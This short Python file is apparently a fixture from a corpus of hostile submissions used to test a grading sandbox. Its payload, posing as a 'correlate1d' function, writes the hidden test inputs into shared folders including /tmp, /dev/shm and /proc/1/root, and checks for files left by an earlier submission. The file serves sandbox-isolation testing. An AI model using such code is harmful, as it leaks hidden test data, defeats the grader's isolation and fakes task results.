"""Writes the hidden inputs wherever it can, for a second submission to read."""

from hostile.corpus import Attack

SPY = """
import glob
import os

def correlate1d(x, w):
    for folder in FOLDERS:
        try:
            with open(f"{folder}/table-{os.getpid()}", "ab") as file:
                file.write(np.asarray(x).tobytes())
        except OSError:
            pass
    return None

FOLDERS = ["/tmp", "/dev/shm", "/home/student", "/home", "/run", "/run/convlab",
           "/var/tmp", "/run/lock", os.path.dirname(np.__file__), "/proc/1/cwd",
           "/proc/1/root/tmp", "/proc/1/root/dev/shm"]
if any(glob.glob(f"{folder}/table-*") for folder in FOLDERS):
    print("REACHED what the other wrote")
print("TRIED")
"""

attack = Attack(
    starts="right", answers={"correlate1d": SPY}, points={"correlate1d": 0}, tried=True
)
